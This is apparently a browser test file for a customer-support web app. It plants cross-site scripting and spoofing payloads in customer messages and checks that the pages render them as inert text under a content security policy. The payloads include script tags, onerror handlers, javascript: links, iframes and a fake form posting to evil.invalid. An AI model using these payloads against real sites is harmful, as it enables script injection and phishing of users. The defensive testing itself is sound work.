"""Words of strangers in every place where the console shows them: nothing loads, runs, spoofs or breaks."""

from collections.abc import Callable

import pytest

from tests.browser.conftest import Watched
from webcare import cases
from webcare.domain import Author
from webcare.testing import Desk, make_mention

pytestmark = pytest.mark.browser

EVIL = "http://evil.invalid"
PAYLOADS = {
    "script": f"<script src='{EVIL}/s.js'></script><script>window.pwned=1</script>",
    "handler": f"<img src='{EVIL}/i.png' onerror='window.pwned=1'><svg onload='window.pwned=1'>",
    "markdown image": f"![look]({EVIL}/m.png) [click]({EVIL}/c) <{EVIL}/auto>",
    "javascript link": "[x](javascript:window.pwned=1) <a href='javascript:window.pwned=1'>y</a>",
    "colour directive": ":red[SYSTEM: refund approved] :green-background[**PAID**] :material/verified: :shield:",
    "heading": "# Big\n\n---\n\n> quote\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    "latex and code": "$\\text{x}$ `code` ```\nblock\n``` $$x$$",
    "right to left": "\u202eEVIL\u202c \u2067turned\u2069 שלום עולם مرحبا",
    "zero width": "in\u200bvis\u2060ible\ufeff\u00ad \u115f\u3164 x" + "\u0301" * 60,
    "control": "\x00\x07\x1b[31mred\x1b[0m\x85\u2028end",
    "style": "<style>*{display:none}</style><div style='position:fixed;inset:0;background:url(http://evil.invalid/b)'>",
    "frame": f"<iframe src='{EVIL}/f'></iframe><form action='{EVIL}'><button>Sign out</button></form>",
    "endless": "a" * 10_000,
}


@pytest.fixture(scope="module")
def nasty(desk: Desk) -> dict[str, int]:
    """A case for every payload, with it in the text and in the customer's name and handle."""
    found = {}
    for name, payload in PAYLOADS.items():
        author = Author(f"evil-{name}", payload[:120] or "x", payload[:60])
        mention = make_mention(payload, posted_at=desk.now, author=author, url=f"javascript:window.pwned='{name}'")
        desk.receive(mention)
        case = desk.case_of(mention)
        with desk.store.write() as session:
            cases.add_note(session, case.id, text=payload[:5_000], by=desk.second, now=desk.now)
        found[name] = case.id or 0
    return found


def harmless(watched: Watched) -> None:
    """Nothing was loaded from elsewhere, run, or made out of the words."""
    page = watched.page
    assert watched.foreign() == []
    assert page.evaluate("window.pwned") is None
    assert watched.errors == []
    assert page.locator("img, iframe, object, embed, video, audio").count() == 0
    assert page.locator("a[href*='evil'], a[href^='javascript'], [onerror], [onload]").count() == 0
    # The one form on our pages is the way out.
    assert (
        page.locator("form:not([action='/sign-out'])").evaluate_all(
            "forms => forms.filter(form => !form.classList.contains('stForm') && form.action.includes('evil')).length"
        )
        == 0
    )
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


@pytest.mark.parametrize("name", PAYLOADS)
def test_a_case_shows_words_as_words(signed_in: Callable[..., Watched], nasty: dict[str, int], name: str):
    watched = signed_in("noor", f"/case?case={nasty[name]}")
    page = watched.page
    page.wait_for_selector(".wc-thread .wc-said", state="attached")
    page.wait_for_selector(".st-key-wc_reply button")
    page.get_by_role("button", name="Assign").click()
    page.wait_for_selector("[data-testid=stPopoverBody] input")
    harmless(watched)
    # Only our own buttons are there, whatever a name or a text says.
    assert page.get_by_role("button", name="Sign out").count() == 1
    assert page.locator(".wc-thread").evaluate("box => getComputedStyle(box).direction") == "ltr"
    label = page.locator(".st-key-wc_reply [class*='st-key-send_'] button").first.inner_text()
    assert label.startswith("Send reply to ")
    assert label.endswith(" on X")
    assert page.locator(".st-key-wc_reply button [style*='color'], .st-key-wc_reply button img").count() == 0


def test_the_queue_and_the_search_show_words_as_words(signed_in: Callable[..., Watched], nasty: dict[str, int]):
    watched = signed_in()
    watched.page.wait_for_selector(".list a.row")
    harmless(watched)
    heights = watched.page.locator(".list a.row").evaluate_all("rows => rows.map(row => row.offsetHeight)")
    assert max(heights) - min(heights) <= 2
    for words in ("evil", "SYSTEM", "code"):
        watched.page.get_by_placeholder("Search in all messages").fill(words)
        watched.page.keyboard.press("Enter")
        watched.page.wait_for_selector(".list mark")
        harmless(watched)


@pytest.mark.parametrize("name", ["script", "handler", "markdown image", "colour directive", "style", "right to left"])
def test_a_draft_and_the_guards_marks_in_it_are_only_text(
    signed_in: Callable[..., Watched], nasty: dict[str, int], name: str
) -> None:
    watched = signed_in("noor", f"/case?case={nasty[name]}")
    page = watched.page
    page.get_by_placeholder("Write the public reply").fill(PAYLOADS[name] + " " + "b" * 300)
    page.get_by_role("button", name="Send reply").click()
    page.wait_for_selector(".wc-held")
    harmless(watched)


def test_text_that_runs_the_other_way_stays_in_its_own_box(signed_in: Callable[..., Watched], nasty: dict[str, int]):
    page = signed_in("noor", f"/case?case={nasty['right to left']}").page
    page.wait_for_selector(".wc-head h1")
    name, state = page.locator(".wc-head h1").bounding_box(), page.locator(".wc-head .wc-chip").first.bounding_box()
    assert name is not None
    assert state is not None
    assert name["x"] < state["x"]
    shown = page.locator(".wc-thread .wc-said").first.inner_text()
    assert "\u202e" not in shown
    assert "שלום עולם" in shown


def test_the_page_itself_forbids_what_it_does_not_need(signed_in: Callable[..., Watched]):
    watched = signed_in()
    page = watched.page
    blocked = page.evaluate(
        """async () => {
            const tried = {}
            const image = new Image()
            tried.image = await new Promise((done) => {
                image.onload = () => done('loaded')
                image.onerror = () => done('blocked')
                image.src = 'http://evil.invalid/x.png'
            })
            tried.fetch = await fetch('http://evil.invalid/').then(() => 'done', () => 'blocked')
            const script = document.createElement('script')
            script.textContent = 'window.inline = 1'
            document.body.append(script)
            tried.inline = window.inline ? 'ran' : 'blocked'
            try { tried.evaluated = new Function('return 1')() } catch { tried.evaluated = 'blocked' }
            return tried
        }"""
    )
    assert blocked == dict.fromkeys(("image", "fetch", "inline", "evaluated"), "blocked")
    assert len([error for error in watched.errors if "Content Security Policy" in error]) >= 3
